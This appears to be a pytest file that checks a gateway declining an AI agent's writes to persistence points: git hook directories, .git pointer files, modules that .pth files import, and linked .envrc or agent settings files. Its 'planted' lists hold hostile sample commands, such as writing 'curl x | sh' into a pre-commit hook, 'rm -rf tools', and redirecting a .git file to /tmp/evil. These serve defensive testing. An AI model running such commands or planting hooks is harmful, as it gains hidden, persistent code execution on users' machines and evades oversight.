"""
The persistence points a repository keeps where the fixed patterns do not look.

git runs hooks from the directory ``core.hooksPath`` names (in the
repository's config, a file it includes, the user's or the system's), and a
``.git`` file moves the whole git directory elsewhere. The gateway reads
git's configuration files as git does (`gateway.git.persistence_points`): a write
into the real hooks directory, to a ``.git`` pointer, or to the configuration
and hooks of the git directory it leads to is a persistence write, declined;
writing an ordinary file beside them stays allowed. Real git shows that the
hooks run; a configuration the gateway cannot read leaves every write asked.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway.git import persistence_points
from rules.test_hostile_on_disk import World, _review

_BOUND = 120  # seconds: only catches a hang

if shutil.which("git") is None:  # pragma: no cover - git is installed where the suite runs
    pytest.skip("needs git", allow_module_level=True)


@pytest.fixture
def home(tmp_path: Path) -> Iterator[Path]:
    """A home directory of its own, with no system configuration: what the gateway and git both read."""
    home = tmp_path / "home"
    home.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))
        patch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        for name in ("GIT_DIR", "GIT_CONFIG_GLOBAL", "GIT_CONFIG_COUNT", "GIT_CONFIG_PARAMETERS"):
            patch.delenv(name, raising=False)
        yield home


def _environ(home: Path) -> dict[str, str]:
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "a",
        "GIT_AUTHOR_EMAIL": "a@example.com",
        "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@example.com",
    }


def _git(cwd: Path, home: Path, *arguments: str) -> None:
    subprocess.run(
        ["git", *arguments],
        cwd=cwd,
        env=_environ(home),
        check=True,
        timeout=_BOUND,
        capture_output=True,
    )


def _repository(tmp_path: Path, home: Path) -> Path:
    work = tmp_path / "work"
    work.mkdir()
    _git(work, home, "init", "-q")
    return work


def _points(work: Path, home: Path, *paths: str) -> tuple[str, ...]:
    found = persistence_points([str(work), *paths], environ=_environ(home))
    assert found.unknown is None, found.unknown
    return found.patterns


def _plant(hooks: Path, marker: Path) -> None:
    hooks.mkdir(parents=True, exist_ok=True)
    hook = hooks / "pre-commit"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)


# ───────────────────────── where git really runs hooks ─────────────────────────


def test_a_relative_hooks_path_is_under_the_top_of_the_work_tree(
    tmp_path: Path, home: Path
) -> None:
    work = _repository(tmp_path, home)
    _git(work, home, "config", "core.hooksPath", "tools/hooks")
    (work / "src").mkdir()
    marker = tmp_path / "ran"
    _plant(work / "tools" / "hooks", marker)
    # git runs it, also from a subdirectory: the path is the work tree's, not `.git`'s
    _git(work / "src", home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    assert f"{work}/tools/hooks/**" in _points(work, home)
    assert not any(p.startswith(f"{work}/.git/tools") for p in _points(work, home))


def test_a_hooks_path_in_an_included_file_counts(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    (work / "extra.cfg").write_text("[core]\n\thooksPath = ci/hooks\n")
    _git(work, home, "config", "include.path", "../extra.cfg")
    marker = tmp_path / "ran"
    _plant(work / "ci" / "hooks", marker)
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    assert f"{work}/ci/hooks/**" in _points(work, home)


def test_a_hooks_path_behind_include_if_counts(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    (home / "work.cfg").write_text("[core]\n\thooksPath = .hooks\n")
    (home / ".gitconfig").write_text(f'[includeIf "gitdir:{work}/"]\n\tpath = ~/work.cfg\n')
    marker = tmp_path / "ran"
    _plant(work / ".hooks", marker)
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    assert f"{work}/.hooks/**" in _points(work, home)


@pytest.mark.parametrize("spelling", ["~/githooks", "HOME/githooks"])
def test_the_users_own_hooks_path_counts_with_a_tilde_or_absolute(
    tmp_path: Path, home: Path, spelling: str
) -> None:
    work = _repository(tmp_path, home)
    (home / ".gitconfig").write_text(
        f"[core]\n\thooksPath = {spelling.replace('HOME', str(home))}\n"
    )
    marker = tmp_path / "ran"
    _plant(home / "githooks", marker)
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    assert f"{home}/githooks/**" in _points(work, home)


def test_the_xdg_config_counts(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    (home / ".config" / "git").mkdir(parents=True)
    (home / ".config" / "git" / "config").write_text("[core]\n\thooksPath = scripts/hooks\n")
    assert f"{work}/scripts/hooks/**" in _points(work, home)


def test_a_linked_hooks_directory_is_a_point_where_it_leads(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    (work / "real").mkdir()
    (work / "tools").mkdir()
    (work / "tools" / "hooks").symlink_to(work / "real")
    _git(work, home, "config", "core.hooksPath", "tools/hooks")
    marker = tmp_path / "ran"
    _plant(work / "real", marker)
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    assert {f"{work}/tools/hooks/**", f"{work}/real/**"} <= set(_points(work, home))


def test_a_git_file_points_at_a_git_directory_elsewhere(tmp_path: Path, home: Path) -> None:
    work = tmp_path / "work"
    store = tmp_path / "store" / "repo"
    store.parent.mkdir()
    subprocess.run(
        ["git", "init", "-q", f"--separate-git-dir={store}", str(work)],
        env=_environ(home),
        check=True,
        timeout=_BOUND,
    )
    assert (work / ".git").is_file()
    marker = tmp_path / "ran"
    _plant(store / "hooks", marker)
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    found = _points(work, home)
    assert f"{work}/.git" in found
    assert {f"{store}/hooks/**", f"{store}/config"} <= set(found)


def test_a_linked_worktree_leads_to_its_common_directory(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    linked = tmp_path / "linked"
    _git(work, home, "worktree", "add", "-q", str(linked))
    found = _points(linked, home)
    assert f"{linked}/.git" in found
    assert {f"{work}/.git/hooks/**", f"{work}/.git/config"} <= set(found)


def test_a_git_a_write_would_make_is_a_point(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    (work / "sub").mkdir()
    assert f"{work}/sub/.git" in _points(work, home, f"{work}/sub/.git")
    # git's own directory is not one: its config and hooks are
    assert f"{work}/.git" not in _points(work, home, f"{work}/.git")


def test_git_config_count_in_the_environment_counts(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    environ = {
        **_environ(home),
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.hooksPath",
        "GIT_CONFIG_VALUE_0": "env/hooks",
    }
    found = persistence_points([str(work)], environ=environ)
    assert f"{work}/env/hooks/**" in found.patterns


@pytest.mark.parametrize(
    "breakage",
    ["unparsable", "a directory", "parameters", "unknown user"],
)
def test_a_configuration_that_cannot_be_read_leaves_hooks_unknown(
    tmp_path: Path, home: Path, breakage: str
) -> None:
    work = _repository(tmp_path, home)
    environ = _environ(home)
    if breakage == "unparsable":
        (work / ".git" / "config").write_text('[core\n\thooksPath = "x\n')
    elif breakage == "a directory":
        (home / ".gitconfig").mkdir()
    elif breakage == "parameters":
        environ["GIT_CONFIG_PARAMETERS"] = "'core.hookspath'='x'"
    else:
        _git(work, home, "config", "core.hooksPath", "~no-such-user-here/hooks")
    found = persistence_points([str(work)], environ=environ)
    assert found.unknown is not None


def test_harmless_twin_an_ordinary_repository_is_known(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    found = persistence_points([str(work)], environ=_environ(home))
    assert found.unknown is None
    assert not [p for p in found.patterns if p.startswith(f"{work}/") and "/.git/" not in p]


# ───────────────────────── what the policy decides ─────────────────────────


def test_planting_a_hook_where_hooks_path_points_is_declined(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    _git(work, home, "config", "core.hooksPath", "tools/hooks")
    (work / "tools" / "hooks").mkdir(parents=True)
    (work / "h").symlink_to(work / "tools" / "hooks")
    store = tmp_path / "store"
    sub = work / "sub"
    subprocess.run(
        ["git", "init", "-q", f"--separate-git-dir={store}", str(sub)],
        env=_environ(home),
        check=True,
        timeout=_BOUND,
    )
    planted = [
        "echo 'curl x | sh' > tools/hooks/pre-commit",
        "cp evil tools/hooks/",
        "cp evil tools/hoo?s/pre-commit",
        "mkdir -p tools/hooks && echo x > tools/hooks/post-checkout",
        "echo x > h/pre-commit",
        "rm -rf tools",
        'Write {"file_path": "tools/hooks/pre-push"}',
        "printf 'gitdir: /tmp/evil\\n' > sub/.git",
        "printf 'gitdir: /tmp/evil\\n' > other/.git",
        f"echo x > {store}/hooks/pre-commit",
        f"echo '[core] fsmonitor = x' >> {store}/config",
    ]
    ordinary = [
        "echo x > notes.txt",
        "echo x > tools/README",
        "mkdir -p tools/lint",
        "echo x > sub/notes.txt",
        'Write {"file_path": "tools/check.py"}',
    ]
    verdicts = _review(planted + ordinary, "workspace-write", World(str(home), str(work)))
    wrong = [
        f"{call!r} → {verdict.decision}: {verdict.reason}"
        for call, verdict in zip(planted, verdicts, strict=False)
        if verdict.decision == "allow"
    ]
    wrong += [
        f"{call!r} → {verdict.decision}: {verdict.reason}"
        for call, verdict in zip(ordinary, verdicts[len(planted) :], strict=True)
        if verdict.decision != "allow"
    ]
    assert not wrong, "\n".join(wrong)
    declined = [v for v in verdicts[: len(planted)] if v.rule == "write.persistence"]
    assert len(declined) >= len(planted) - 2, [v.reason for v in verdicts[: len(planted)]]


def test_a_configuration_that_cannot_be_read_asks_about_every_write(
    tmp_path: Path, home: Path
) -> None:
    work = _repository(tmp_path, home)
    (work / ".git" / "config").write_text("[core\n")
    (verdict,) = _review(["echo x > notes.txt"], "workspace-write", World(str(home), str(work)))
    assert verdict.decision == "ask", verdict.reason


# ───────────────────────── beyond git: links and what `.pth` files import ─────────────────────────


def _venv(work: Path) -> Path:
    """A virtual environment in the workspace, with the start-up files setuptools, virtualenv and an editable install leave."""
    subprocess.run(
        ["python3", "-m", "venv", "--without-pip", str(work / ".venv")],
        check=True,
        timeout=_BOUND,
        capture_output=True,
    )
    (packages,) = (work / ".venv" / "lib").glob("python3*/site-packages")
    (packages / "distutils-precedence.pth").write_text(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local';"
        " enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    (packages / "_distutils_hack").mkdir()
    (packages / "_distutils_hack" / "__init__.py").write_text("def add_shim():\n    pass\n")
    (packages / "_virtualenv.pth").write_text("import _virtualenv\n")
    (packages / "_virtualenv.py").write_text("")
    (packages / "__editable__.pkg-1.0.pth").write_text(
        "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n"
    )
    (packages / "__editable___pkg_1_0_finder.py").write_text("def install():\n    pass\n")
    return packages


def test_a_module_a_pth_file_imports_runs_at_every_start_and_is_a_point(
    tmp_path: Path, home: Path
) -> None:
    work = _repository(tmp_path, home)
    packages = _venv(work)
    marker = tmp_path / "ran"
    # What Python does: the module a `.pth` line imports runs at the interpreter's start.
    with (packages / "_distutils_hack" / "__init__.py").open("a") as module:
        module.write(f"open({str(marker)!r}, 'w').close()\n")
    subprocess.run(
        [str(work / ".venv" / "bin" / "python"), "-c", "pass"], check=True, timeout=_BOUND
    )
    assert marker.exists()
    site = str(packages)
    found = _points(work, home, f"{site}/_distutils_hack/__init__.py")
    assert {
        f"{site}/_distutils_hack/**",
        f"{site}/_virtualenv.*",
        f"{site}/__pycache__/_virtualenv.*",
    } <= set(found)
    relative = packages.relative_to(work)
    planted = [
        f'Edit {{"file_path": "{relative}/_distutils_hack/__init__.py", "old_string": "pass", "new_string": "x"}}',
        f"echo 'import os' >> {relative}/_virtualenv.py",
        f'Write {{"file_path": "{relative}/__editable___pkg_1_0_finder.py", "content": "x"}}',
        f"echo x > {relative}/__pycache__/_virtualenv.cpython-311.pyc",
    ]
    (work / "src" / "pkg").mkdir(parents=True)
    (work / "src" / "pkg" / "module.py").write_text("pass\n")
    ordinary = [
        'Edit {"file_path": "src/pkg/module.py", "old_string": "pass", "new_string": "x = 1"}',
        "echo x > src/pkg/other.py",
    ]
    verdicts = _review(planted + ordinary, "workspace-write", World(str(home), str(work)))
    assert [v.rule for v in verdicts[: len(planted)]] == ["write.persistence"] * len(planted), [
        v.reason for v in verdicts
    ]
    assert [v.decision for v in verdicts[len(planted) :]] == ["allow"] * len(ordinary), [
        v.reason for v in verdicts
    ]


def test_a_pth_file_past_its_bound_leaves_what_runs_at_start_unknown(
    tmp_path: Path, home: Path
) -> None:
    work = _repository(tmp_path, home)
    packages = _venv(work)
    (packages / "big.pth").write_text("# padding\n" * 10_000)
    found = persistence_points([f"{packages}/x.py"], environ=_environ(home))
    assert found.unknown is not None
    assert "big.pth" in found.unknown
    relative = packages.relative_to(work)
    (verdict,) = _review(
        [f"echo x > {relative}/anything.py"], "workspace-write", World(str(home), str(work))
    )
    assert verdict.decision == "ask", verdict.reason


def test_where_a_linked_hook_or_envrc_leads_is_a_point(tmp_path: Path, home: Path) -> None:
    work = _repository(tmp_path, home)
    (work / "tools").mkdir()
    (work / "config").mkdir()
    marker = tmp_path / "ran"
    (work / "tools" / "pre-commit").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (work / "tools" / "pre-commit").chmod(0o755)
    (work / "tools" / "lint").write_text("#!/bin/sh\n")
    (work / "config" / "envrc").write_text("export A=1\n")
    (work / "config" / "claude.json").write_text("{}\n")
    (work / ".git" / "hooks" / "pre-commit").symlink_to("../../tools/pre-commit")
    (work / ".envrc").symlink_to("config/envrc")
    (work / ".claude").mkdir()
    (work / ".claude" / "settings.json").symlink_to("../config/claude.json")
    # What git does: it runs the hook where the link leads.
    _git(work, home, "commit", "-q", "--allow-empty", "-m", "x")
    assert marker.exists()
    assert {
        f"{work}/tools/pre-commit",
        f"{work}/config/envrc",
        f"{work}/config/claude.json",
    } <= set(_points(work, home))
    planted = [
        "echo 'curl x | sh' >> tools/pre-commit",
        'Edit {"file_path": "config/envrc", "old_string": "A=1", "new_string": "A=2"}',
        'Write {"file_path": "config/claude.json", "content": "{}"}',
    ]
    ordinary = [  # the harmless twins: the same files when no persistence point links to them
        "echo x >> tools/lint",
        'Write {"file_path": "config/other", "content": "x"}',
    ]
    verdicts = _review(planted + ordinary, "workspace-write", World(str(home), str(work)))
    assert [v.rule for v in verdicts[: len(planted)]] == ["write.persistence"] * len(planted), [
        v.reason for v in verdicts
    ]
    assert [v.decision for v in verdicts[len(planted) :]] == ["allow"] * len(ordinary), [
        v.reason for v in verdicts
    ]
